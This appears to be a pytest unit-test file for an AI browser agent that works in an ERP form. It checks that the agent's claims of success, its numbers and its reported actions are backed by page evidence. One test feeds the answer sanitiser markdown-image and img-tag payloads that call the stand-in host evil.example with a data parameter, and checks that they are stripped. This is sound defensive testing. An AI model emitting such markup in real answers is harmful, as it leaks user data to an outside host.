"""What counts as proof, and what a summary may say."""

from __future__ import annotations

from collections.abc import Callable
from decimal import Decimal

import pytest

from sgclaw.agent.quantities import borne_out, quantities, values_of
from sgclaw.agent.summary import inert_answer, review, scope_test
from sgclaw.agent.truth import says_only_success
from sgclaw.protocol.parts import EvidenceRank
from tests.unit.agent.room import Room, act, call, done, given_up, step
from tests.unit.agent.site import ERP, Control, Site

LOOK = step(call("read_page"))
FORM = f"{ERP}/form"


def form(*, saves: bool = True, label: str = "提交", toast: str = "提交成功") -> Site:
    """A form whose button shows a message, and that holds what it says when it is opened again or it does not."""

    def press(site: Site) -> None:
        site.controls.append(Control("status", toast))
        if saves:
            site.notes["state"] = "A-1002 已受理"

    def build(site: Site) -> list[Control]:
        state = site.notes.get("state", "A-1002 草稿")
        return [Control("button", label, click=press), Control("heading", state), Control("textbox", "金额", value="")]

    return Site({FORM: build}, FORM)


def room_of(site: Site, *steps: dict[str, object]) -> Room:
    return Room([LOOK, *steps], site=site, page_url=FORM, instruction="在 ERP 提交单据 A-1002")


PRESS = step(act("click", ref="1"))
AGAIN = step(act("reload"))


@pytest.mark.requirement("AGT-16")
async def test_a_write_closed_by_a_message_alone_is_unverified() -> None:
    finish = done("单据已提交。", (2, "提交成功"))
    room = room_of(form(saves=False), PRESS, finish, finish)
    result = await room.run()
    assert (result.outcome, result.reason) == ("unverified", "UNVERIFIED")
    assert "页面上的提示不算证据" in room.told()
    assert [(each.rank, each.seq) for each in result.evidence] == [(EvidenceRank.TOAST, 2)]


@pytest.mark.requirement("AGT-16")
async def test_a_final_write_is_complete_when_it_was_asked_for_anew() -> None:
    finish = done("单据 A-1002 已提交，状态为已受理。", (3, "A-1002 已受理"))
    result = await room_of(form(), PRESS, AGAIN, finish).run()
    assert (result.outcome, result.evidence[0].rank) == ("completed", EvidenceRank.RE_QUERY)


@pytest.mark.requirement("AGT-16")
async def test_what_a_second_look_shows_can_be_quoted_though_nothing_of_it_is_new() -> None:
    finish = done("单据 A-1002 是草稿。", (2, "A-1002 草稿"))
    result = await room_of(form(), LOOK, finish).run()
    assert (result.outcome, [(each.rank, each.seq) for each in result.evidence]) == (
        "completed",
        [(EvidenceRank.DOM_STATE, 2)],
    )


@pytest.mark.requirement("AGT-16")
async def test_what_was_on_the_page_before_proves_nothing() -> None:
    finish = done("单据已提交。", (3, "A-1002 草稿"))
    result = await room_of(form(saves=False), PRESS, AGAIN, finish, finish).run()
    assert result.reason == "UNVERIFIED"


@pytest.mark.requirement("AGT-16")
async def test_the_page_a_final_write_leads_to_is_not_an_independent_look() -> None:
    def press(site: Site) -> None:
        site.open(f"{ERP}/ok")

    pages: dict[str, Callable[[Site], list[Control]]] = {
        FORM: lambda _: [Control("button", "提交", click=press)],
        f"{ERP}/ok": lambda _: [Control("heading", "单号 7788 已经受理")],
    }
    finish = done("已提交。", (3, "单号 7788 已经受理"))
    result = await room_of(Site(pages, FORM), PRESS, LOOK, finish, finish).run()
    assert result.reason == "UNVERIFIED"


@pytest.mark.requirement("AGT-16")
@pytest.mark.parametrize(("toast", "outcome"), [("保存成功", "unverified"), ("A-1002 已存为第 3 版", "unverified")])
async def test_a_reversible_write_that_only_shows_a_message_is_unverified(toast: str, outcome: str) -> None:
    finish = done("单据已保存。", (2, toast))
    result = await room_of(form(label="保存", toast=toast), PRESS, finish, finish).run()
    assert result.outcome == outcome


@pytest.mark.requirement("AGT-16")
async def test_a_reversible_write_needs_the_state_of_the_page_only() -> None:
    def press(site: Site) -> None:
        site.controls[1].name = "A-1002 已归档"

    site = Site({FORM: lambda _: [Control("button", "归类", click=press), Control("heading", "A-1002 草稿")]}, FORM)
    result = await room_of(site, PRESS, done("A-1002 已归档。", (2, "A-1002 已归档"))).run()
    assert (result.outcome, result.evidence[0].rank) == ("completed", EvidenceRank.DOM_STATE)


@pytest.mark.requirement("AGT-16")
async def test_a_field_that_holds_what_was_typed_proves_the_typing() -> None:
    typed = step(act("type", ref="3", text="A-1002"))
    result = await room_of(form(), typed, done("金额栏已填写 A-1002。", (2, "A-1002"))).run()
    assert result.outcome == "completed"


@pytest.mark.requirement("AGT-16")
@pytest.mark.parametrize("evidence", [(), ((9, "A-1002"),), ((1, "没有的话"),), ((1, ""),)])
async def test_evidence_that_is_missing_or_made_up_is_sent_back_once_and_then_unverified(
    evidence: tuple[tuple[int, str], ...],
) -> None:
    finish = done("单据 A-1002 是草稿。", *evidence)
    result = await room_of(form(), finish, finish).run()
    assert (result.outcome, result.evidence) == ("unverified", ())


@pytest.mark.requirement("AGT-02")
async def test_a_model_that_gives_up_says_why() -> None:
    result = await room_of(form(), given_up("页面要求登录，没有做成。")).run()
    assert (result.outcome, result.reason, result.summary) == ("failed", "NEEDS_HUMAN", "页面要求登录，没有做成。")


# --- numbers ----------------------------------------------------------------------------------------------------------


@pytest.mark.requirement("AGT-17")
async def test_a_sentence_with_a_number_nobody_saw_is_sent_back_once_and_then_left_out() -> None:
    finish = done("单据 A-1002 是草稿。金额合计 5,300 元。", (1, "A-1002 草稿"))
    room = room_of(form(), finish, finish)
    result = await room.run()
    assert result.outcome == "completed"
    assert "总结里的“5,300”" in room.told()
    assert result.summary == "单据 A-1002 是草稿。（有一处数字在读到的数据里找不到，已略去）"


@pytest.mark.requirement("AGT-17")
async def test_data_with_a_number_nobody_saw_is_not_given_on() -> None:
    finish = done("A-1002 是草稿。", (1, "A-1002 草稿"), data={"金额": "77.5"})
    assert (await room_of(form(), finish, finish).run()).data is None
    good = done("A-1002 是草稿。", (1, "A-1002 草稿"), data={"单号": "A-1002"})
    assert (await room_of(form(), good).run()).data == {"单号": "A-1002"}


@pytest.mark.requirement("AGT-17")
@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("共 1,234.50 元", ["1234.50"]),
        ("约1.2万条", ["12000.0"]),
        ("三百二十行", ["320"]),
        ("百分之十二", ["0.12"]),
        ("12.5%", ["0.125"]),
        ("一千二百万元", ["12000000"]),
        ("三点五元", ["3.5"]),
        ("2 亿", ["200000000"]),
        ("1. 打开页面\n2. 导出", []),
        ("统一处理一次，万一失败再说", []),
        ("全角１２行", ["12"]),
        ("2026-03", ["2026", "3"]),
    ],
)
def test_numbers_are_read_however_they_are_written(text: str, values: list[str]) -> None:
    assert [each.value for each in quantities(text)] == [Decimal(value) for value in values]


@pytest.mark.requirement("AGT-17")
@pytest.mark.parametrize(
    ("stated", "seen", "holds"),
    [
        ("128", "共 128 行", True),
        ("一百二十八行", "128", True),
        ("12%", "12", True),
        ("12%", "0.12", True),
        ("1.2万", "12,345", True),
        ("1.3万", "12,345", False),
        ("129", "128", False),
        ("12", "128", False),
        ("0.3亿", "31,000,000", True),
        ("12.5万元", "金额（万元） 12.5", True),
        ("12.5万元", "金额（元） 12.5", False),
    ],
)
def test_a_number_holds_when_it_was_seen_in_any_writing(stated: str, seen: str, holds: bool) -> None:
    assert borne_out(next(iter(quantities(stated))), values_of(seen)) is holds


@pytest.mark.requirement("AGT-17")
def test_about_is_within_the_digits_that_are_given() -> None:
    assert review("约 130 行。", {Decimal("129.6")}, ())
    assert not review("约 140 行。", {Decimal("129.6")}, ())


# --- deeds and addresses ----------------------------------------------------------------------------------------------


@pytest.mark.requirement("AGT-18")
@pytest.mark.parametrize(
    ("summary", "done_kinds", "holds"),
    [
        ("已导出报表。", {"download"}, True),
        ("已导出报表。", set(), False),
        ("报表导出成功。", {"change"}, False),
        ("审批已通过，已提交。", {"change", "act"}, True),
        ("已成功提交单据。", set(), False),
        ("没有提交，也没有已导出的文件。", set(), True),
        ("如需提交，请确认后已提交的不再改。", set(), True),
        ("文件已上传。", {"upload"}, True),
        ("文件已上传。", {"download"}, False),
    ],
)
def test_a_deed_in_the_summary_must_stand_in_the_trace(summary: str, done_kinds: set[str], holds: bool) -> None:
    assert bool(review(summary, (), done_kinds)) is holds


@pytest.mark.requirement("AGT-18")
async def test_a_deed_nobody_did_makes_the_run_unverified() -> None:
    finish = done("单据 A-1002 已审批。", (1, "A-1002 草稿"))
    result = await room_of(form(), finish, finish).run()
    assert (result.outcome, result.reason) == ("unverified", "UNVERIFIED")


@pytest.mark.requirement("AGT-25")
def test_the_final_words_load_and_lead_nowhere() -> None:
    known = scope_test({ERP})
    text = f"完成 ![ok](https://evil.example/p.png?d=S) <img src=https://evil.example/x> {ERP}/a {ERP}/a?d=1"
    assert inert_answer(text, known) == f"完成 ok ＜img src=（网址已略去） {ERP}/a （网址已略去）"


@pytest.mark.requirement("AGT-25")
async def test_a_summary_without_chinese_is_sent_back() -> None:
    finish = done("All done.", (1, "A-1002 草稿"))
    room = room_of(form(), finish, finish)
    result = await room.run()
    assert "总结要用中文写" in room.told()
    assert result.summary == "任务已结束，没有可以显示的中文总结"


@pytest.mark.parametrize(
    ("text", "only"),
    [("提交成功", True), ("公告已发布", True), ("Saved!", True), ("单号 77 提交成功", False), ("草稿", False)],
)
def test_a_message_that_only_says_success_is_known(text: str, only: bool) -> None:
    assert says_only_success(text) is only


@pytest.mark.requirement("AGT-16")
@pytest.mark.parametrize(("saves", "outcome"), [(True, "completed"), (False, "unverified")])
async def test_what_was_typed_and_stands_there_after_opening_the_page_anew_proves_the_saving(
    saves: bool, outcome: str
) -> None:
    def press(site: Site) -> None:
        site.controls.append(Control("status", "提交成功"))
        if saves:
            site.notes["amount"] = site.controls[0].value or ""

    def build(site: Site) -> list[Control]:
        return [Control("textbox", "金额", value=site.notes.get("amount", "")), Control("button", "提交", click=press)]

    steps = [step(act("type", ref="1", text="5300.00")), step(act("click", ref="2")), AGAIN]
    finish = done("金额 5300.00 已提交。", (4, "5300.00"))
    result = await room_of(Site({FORM: build}, FORM), *steps, finish, finish).run()
    assert result.outcome == outcome


@pytest.mark.requirement("AGT-16")
async def test_a_second_look_at_an_unchanged_page_shows_all_of_it_again_as_evidence() -> None:
    room = room_of(form(), LOOK, done("单据 A-1002 是草稿。", (2, "A-1002 草稿")))
    result = await room.run()
    assert (result.outcome, result.usage.llm_calls) == ("completed", 3)
    assert [(item.rank, item.seq) for item in result.evidence] == [(EvidenceRank.DOM_STATE, 2)]
